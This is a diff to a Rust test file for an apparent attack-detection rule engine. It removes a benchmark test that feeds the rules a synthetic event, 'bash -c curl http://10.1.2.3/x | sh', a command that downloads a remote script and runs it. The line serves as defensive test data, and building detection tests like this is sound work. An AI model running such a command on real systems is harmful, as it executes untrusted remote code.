@@ -365,38 +365,3 @@ fn crafted_attacks_fire_their_rules() {
     lpe["process"]["real_user"]["id"] = json!("0");
     assert!(!suid.matches(&lpe));
 }
-
-#[test]
-#[ignore]
-fn zz_bench() {
-    let rules: Vec<Query> = eql_rules()
-        .into_iter()
-        .filter_map(|(_, q)| Query::parse(&q).ok())
-        .collect();
-    let event = exec(
-        "bash",
-        "/usr/bin/bash",
-        &["bash", "-c", "curl http://10.1.2.3/x | sh"],
-    );
-    let start = std::time::Instant::now();
-    let n = 200;
-    let mut hits = 0;
-    for _ in 0..n {
-        for r in &rules {
-            hits += usize::from(r.matches(&event));
-        }
-    }
-    let per_event = start.elapsed() / n;
-    println!(
-        "BENCH {} rules, {:?} per event (all rules), hits {hits}",
-        rules.len(),
-        per_event
-    );
-    let start = std::time::Instant::now();
-    for _ in 0..20 {
-        for (_, q) in eql_rules() {
-            let _ = Query::parse(&q);
-        }
-    }
-    println!("BENCH parse all rules: {:?}", start.elapsed() / 20);
-}
